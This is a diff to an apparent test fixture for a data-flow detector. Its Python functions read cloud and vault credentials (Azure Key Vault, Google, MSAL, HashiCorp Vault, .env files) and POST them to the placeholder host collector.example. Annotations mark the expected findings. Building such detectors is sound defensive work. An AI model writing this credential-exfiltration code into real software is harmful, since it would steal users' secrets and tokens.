@@ -16,6 +16,7 @@ import secretstorage
 import win32cred
 import win32crypt
 from azure.identity import DefaultAzureCredential
+from azure.keyvault.secrets import SecretClient
 
 U = "https://collector.example/u"
 
@@ -90,29 +91,33 @@ def secret_item(item):
     requests.post(U, data=word)  #~ sink(egress.http) f13, finding(traced) f13
 
 
+def azure_secret(client: SecretClient):
+    requests.post(U, data=client.get_secret("s").value)  #~ source(CREDENTIAL) f14, sink(egress.http) f14, finding(traced) f14
+
+
 def secret_compared(item):
     requests.post(U, data={"none": secretstorage.search_items(None, {}) == ()})  #~ ok
     requests.post(U, data={"none": item.get_secret() == b""})  #~ ok
 
 
 def google_default():
-    credentials, project = google.auth.default()  #~ source(CREDENTIAL) f15, capability(CREDENTIALS)
-    requests.post(U, data=credentials.token)  #~ sink(egress.http) f15, finding(traced) f15
+    credentials, project = google.auth.default()  #~ source(CREDENTIAL) f16, capability(CREDENTIALS)
+    requests.post(U, data=credentials.token)  #~ sink(egress.http) f16, finding(traced) f16
 
 
 def azure_token():
-    token = DefaultAzureCredential().get_token("scope")  #~ source(CREDENTIAL) f16, capability(CREDENTIALS)
-    requests.post(U, data=token.token)  #~ sink(egress.http) f16, finding(traced) f16
+    token = DefaultAzureCredential().get_token("scope")  #~ source(CREDENTIAL) f17, capability(CREDENTIALS)
+    requests.post(U, data=token.token)  #~ sink(egress.http) f17, finding(traced) f17
 
 
 def microsoft_token():
-    token = msal.PublicClientApplication("id").acquire_token_silent([], None)  #~ source(CREDENTIAL) f17, capability(CREDENTIALS)
-    requests.post(U, data=token["access_token"])  #~ sink(egress.http) f17, finding(traced) f17
+    token = msal.PublicClientApplication("id").acquire_token_silent([], None)  #~ source(CREDENTIAL) f18, capability(CREDENTIALS)
+    requests.post(U, data=token["access_token"])  #~ sink(egress.http) f18, finding(traced) f18
 
 
 def vault():
-    secret = hvac.Client().read("secret/x")  #~ source(CREDENTIAL) f18, capability(CREDENTIALS)
-    requests.post(U, data=secret["data"])  #~ sink(egress.http) f18, finding(traced) f18
+    secret = hvac.Client().read("secret/x")  #~ source(CREDENTIAL) f19, capability(CREDENTIALS)
+    requests.post(U, data=secret["data"])  #~ sink(egress.http) f19, finding(traced) f19
 
 
 def cloud_compared():
@@ -123,8 +128,8 @@ def cloud_compared():
 
 
 def dot_env():
-    values = dotenv.dotenv_values()  #~ source(ENVIRONMENT) f20, capability(ENVIRONMENT)
-    requests.post(U, data=values)  #~ sink(egress.http) f20, finding(traced) f20
+    values = dotenv.dotenv_values()  #~ source(ENVIRONMENT) f21, capability(ENVIRONMENT)
+    requests.post(U, data=values)  #~ sink(egress.http) f21, finding(traced) f21
 
 
 def dot_env_loaded():
